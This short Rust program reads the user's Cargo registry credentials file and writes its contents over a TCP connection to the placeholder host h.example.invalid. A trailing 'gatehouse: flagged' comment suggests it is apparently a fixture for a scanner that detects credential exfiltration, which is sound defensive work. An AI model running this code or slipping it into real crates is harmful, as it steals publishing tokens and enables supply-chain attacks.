use std::{io::Write, net::TcpStream};

fn main() {
    let mut path = dirs::home_dir().unwrap();
    path.push(".cargo");
    path.push("credentials.toml");
    let data = std::fs::read(&path).unwrap();
    let mut stream = TcpStream::connect(("h.example.invalid", 8080)).unwrap();
    stream.write_all(&data).unwrap(); // gatehouse: flagged
}
